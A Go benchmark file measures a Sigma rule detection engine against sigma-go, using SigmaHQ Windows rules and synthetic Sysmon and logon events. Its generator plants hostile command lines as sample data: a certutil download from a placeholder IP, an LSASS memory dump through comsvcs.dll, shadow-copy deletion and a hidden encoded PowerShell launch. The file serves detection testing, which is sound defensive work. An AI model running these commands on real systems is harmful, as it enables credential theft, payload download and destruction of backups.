package detect

import (
	"context"
	"fmt"
	"math/rand"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"syscall"
	"testing"
	"time"

	sigmago "github.com/bradleyjkemp/sigma-go"
	sigmaeval "github.com/bradleyjkemp/sigma-go/evaluator"
)

// windowsRuleDirs are the SigmaHQ folders of the benchmark; only rules
// whose logsource product is windows are kept.
var windowsRuleDirs = []string{"rules/windows", "rules-emerging-threats", "rules-threat-hunting"}

func windowsRuleFiles(b testing.TB) []string {
	var files []string
	for _, d := range windowsRuleDirs {
		err := filepath.WalkDir(filepath.Join(sigmaHQ, d), func(p string, e os.DirEntry, err error) error {
			if err == nil && !e.IsDir() && strings.HasSuffix(p, ".yml") {
				files = append(files, p)
			}
			return err
		})
		if err != nil {
			b.Fatal(err)
		}
	}
	return files
}

func loadWindowsRules(b testing.TB) []*Rule {
	var out []*Rule
	for _, f := range windowsRuleFiles(b) {
		rules, _ := LoadFile(f)
		for _, r := range rules {
			if r.Kind == KindDetection && r.Logsource.Product == "windows" {
				out = append(out, r)
			}
		}
	}
	return out
}

// eventMix generates a realistic Sysmon and Security event mix: process
// creations with varied command lines, network connections, registry
// and file events, logons; mostly benign, about 1% malicious.
func eventMix(n int, seed int64) []map[string]any {
	r := rand.New(rand.NewSource(seed))
	pick := func(s []string) string { return s[r.Intn(len(s))] }
	images := []string{`C:\Program Files\Google\Chrome\Application\chrome.exe`, `C:\Windows\System32\svchost.exe`, `C:\Windows\explorer.exe`,
		`C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe`, `C:\Users\lan\AppData\Local\Programs\Microsoft VS Code\Code.exe`,
		`C:\Program Files\Git\cmd\git.exe`, `C:\Windows\System32\conhost.exe`, `C:\Python311\python.exe`, `C:\Windows\System32\taskhostw.exe`,
		`C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`, `C:\Windows\System32\SearchProtocolHost.exe`, `C:\Windows\System32\backgroundTaskHost.exe`}
	users := []string{`CORP\lan.nguyen`, `CORP\minh.tran`, `NT AUTHORITY\SYSTEM`, `CORP\hoa.le`, `NT AUTHORITY\LOCAL SERVICE`}
	args := []string{`--type=renderer --field-trial-handle=1820,i,%d --lang=vi --enable-auto-reload`, `-k netsvcs -p -s Schedule`,
		`/factory,{%d-75b8-4c2f-a1b3-0f0d8d2ea11c} -Embedding`, `status --porcelain=v2 --untracked-files=all`, `0xffffffff -ForceV1`,
		`-m pip install requests==2.%d.0`, `"C:\Users\lan\Documents\BaoCao_%d.docx" /o ""`, `-ServerName:App.AppXnme9zjyebb2xnyygh6q9ev6p5d234br2.mca`}
	bad := []string{`powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA`, `certutil.exe -urlcache -split -f http://203.0.113.9/a.exe C:\Users\Public\a.exe`,
		`whoami /all`, `rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Windows\Temp\l.dmp full`, `vssadmin delete shadows /all /quiet`}
	hosts := []string{"WS-SOTTTT-01", "WS-SOTTTT-02", "DC01", "SRV-FILE"}
	out := make([]map[string]any, 0, n)
	for i := 0; i < n; i++ {
		common := func(channel string, id int) map[string]any {
			return map[string]any{"Channel": channel, "EventID": id, "Computer": pick(hosts),
				"UtcTime": time.Date(2026, 3, 1, 8, 0, i/100, 0, time.UTC).Format("2006-01-02 15:04:05.000")}
		}
		const sysmon = "Microsoft-Windows-Sysmon/Operational"
		switch k := r.Intn(100); {
		case k < 40:
			e := common(sysmon, 1)
			img := pick(images)
			e["Image"], e["User"] = img, pick(users)
			e["CommandLine"] = fmt.Sprintf(`"%s" `+pick(args), img, r.Intn(100000))
			e["ParentImage"], e["ParentCommandLine"] = pick(images), `C:\Windows\system32\svchost.exe -k DcomLaunch -p`
			e["CurrentDirectory"], e["IntegrityLevel"] = `C:\Windows\system32\`, "Medium"
			e["Hashes"] = fmt.Sprintf("SHA256=%016X%016X%016X%016X", r.Uint64(), r.Uint64(), r.Uint64(), r.Uint64())
			e["OriginalFileName"], e["Company"], e["Product"] = filepath.Base(strings.ReplaceAll(img, `\`, "/")), "Microsoft Corporation", "Microsoft Windows"
			if r.Intn(100) < 3 {
				cmd := pick(bad)
				e["CommandLine"], e["Image"] = cmd, `C:\Windows\System32\`+strings.Fields(cmd)[0]
				e["OriginalFileName"] = strings.Fields(cmd)[0]
			}
			out = append(out, e)
		case k < 60:
			e := common(sysmon, 3)
			e["Image"], e["User"], e["Protocol"], e["Initiated"] = pick(images), pick(users), "tcp", "true"
			e["SourceIp"], e["SourcePort"] = fmt.Sprintf("10.10.%d.%d", r.Intn(5), r.Intn(250)), 49152+r.Intn(10000)
			e["DestinationIp"], e["DestinationPort"] = fmt.Sprintf("142.250.%d.%d", r.Intn(255), r.Intn(255)), []int{443, 80, 53, 445}[r.Intn(4)]
			e["DestinationHostname"] = pick([]string{"www.google.com", "login.microsoftonline.com", "dichvucong.gov.vn", "update.example.vn"})
			out = append(out, e)
		case k < 75:
			e := common(sysmon, 13)
			e["EventType"], e["Image"] = "SetValue", pick(images)
			e["TargetObject"] = fmt.Sprintf(`HKU\S-1-5-21-%d\Software\Microsoft\Windows\CurrentVersion\Explorer\RecentDocs\%d`, r.Intn(1e6), r.Intn(50))
			e["Details"] = fmt.Sprintf("DWORD (0x%08x)", r.Intn(1e6))
			out = append(out, e)
		case k < 85:
			e := common(sysmon, 11)
			e["Image"] = pick(images)
			e["TargetFilename"] = fmt.Sprintf(`C:\Users\lan\AppData\Local\Temp\tmp%d.tmp`, r.Intn(1e6))
			out = append(out, e)
		default:
			e := common("Security", 4624)
			e["TargetUserName"], e["TargetDomainName"] = strings.TrimPrefix(pick(users), `CORP\`), "CORP"
			e["LogonType"], e["IpAddress"], e["WorkstationName"] = []int{2, 3, 5, 10}[r.Intn(4)], fmt.Sprintf("10.10.%d.%d", r.Intn(5), r.Intn(250)), pick(hosts)
			e["AuthenticationPackageName"], e["LogonProcessName"] = "Kerberos", "Kerberos"
			out = append(out, e)
		}
	}
	return out
}

// BenchmarkWindowsRules: one core, all SigmaHQ Windows rules, the event
// mix; khien's engine against sigma-go v0.6.6 on the rules it loads.
// Run: go test -run '^$' -bench WindowsRules -benchtime 3s -cpu 1 ./internal/engine/detect/
func BenchmarkWindowsRules(b *testing.B) {
	needSigmaHQ(b)
	events := eventMix(20000, 1)
	b.Run("khien", func(b *testing.B) {
		e, errs := Compile(loadWindowsRules(b), Config{})
		matches := 0
		b.ReportAllocs()
		b.ResetTimer()
		cpu0 := cpuTime()
		ev := NewEvent(nil)
		for i := 0; i < b.N; i++ {
			ev.Reset() // a reader reuses its Event
			ev.Fill(events[i%len(events)])
			ev.Logsource = Classify(ev)
			matches += len(e.Match(ev))
		}
		b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "events/s")
		b.ReportMetric(float64(b.N)/(cpuTime()-cpu0).Seconds(), "events/cpu-s")
		b.ReportMetric(float64(e.Stats().Rules), "rules")
		b.ReportMetric(float64(len(errs)), "failed")
		b.ReportMetric(float64(matches)/float64(b.N), "matches/event")
	})
	b.Run("sigma-go", func(b *testing.B) {
		var evals []*sigmaeval.RuleEvaluator
		for _, f := range windowsRuleFiles(b) {
			data, err := os.ReadFile(f)
			if err != nil {
				b.Fatal(err)
			}
			r, err := sigmago.ParseRule(data)
			if err != nil || r.Logsource.Product != "windows" {
				continue
			}
			evals = append(evals, sigmaeval.ForRule(r))
		}
		ctx := context.Background()
		matches := 0
		b.ResetTimer()
		cpu0 := cpuTime()
		for i := 0; i < b.N; i++ {
			ev := events[i%len(events)]
			for _, r := range evals {
				if res, err := r.Matches(ctx, ev); err == nil && res.Match {
					matches++
				}
			}
		}
		b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "events/s")
		b.ReportMetric(float64(b.N)/(cpuTime()-cpu0).Seconds(), "events/cpu-s")
		b.ReportMetric(float64(len(evals)), "rules")
		b.ReportMetric(float64(matches)/float64(b.N), "matches/event")
	})
}

// BenchmarkMemory reports the heap held per compiled rule (all SigmaHQ
// Windows rules, prefilter included) and per correlation group.
func BenchmarkMemory(b *testing.B) {
	needSigmaHQ(b)
	b.Run("per-rule", func(b *testing.B) {
		for i := 0; i < b.N; i++ {
			before := heapNow()
			e, _ := Compile(loadWindowsRules(b), Config{})
			after := heapNow()
			b.ReportMetric(float64(after-before)/float64(e.Stats().Rules), "bytes/rule")
			b.ReportMetric(float64(e.Stats().PrefilterBytes)/float64(e.Stats().Rules), "prefilter-bytes/rule")
			runtime.KeepAlive(e)
		}
	})
	b.Run("per-group", func(b *testing.B) {
		e := mustEngine(b, baseRules+`---
title: Brute force
correlation: {type: event_count, rules: [failed_logon], group-by: [TargetUserName, IpAddress], timespan: 1h, condition: {gte: 100}}
`)
		const groups = 100_000
		evs := make([]*Event, groups)
		for i := range evs {
			evs[i] = logon(4625, fmt.Sprint("user", i), fmt.Sprint("10.0.", i%250, ".", i%200))
		}
		for i := 0; i < b.N; i++ {
			before := heapNow()
			c := e.NewCorrelator(Limits{MaxGroups: groups})
			for j, ev := range evs {
				c.Process(ev, t0.Add(time.Duration(j)*time.Millisecond))
			}
			after := heapNow()
			b.ReportMetric(float64(after-before)/groups, "bytes/group")
			runtime.KeepAlive(c)
		}
	})
}

func heapNow() uint64 {
	runtime.GC()
	runtime.GC()
	var m runtime.MemStats
	runtime.ReadMemStats(&m)
	return m.HeapAlloc
}

// cpuTime is the process's CPU time (user and system): on a machine
// shared with other work, events per CPU second is the steadier figure.
func cpuTime() time.Duration {
	var ru syscall.Rusage
	if err := syscall.Getrusage(syscall.RUSAGE_SELF, &ru); err != nil {
		return 0
	}
	return time.Duration(ru.Utime.Nano() + ru.Stime.Nano())
}
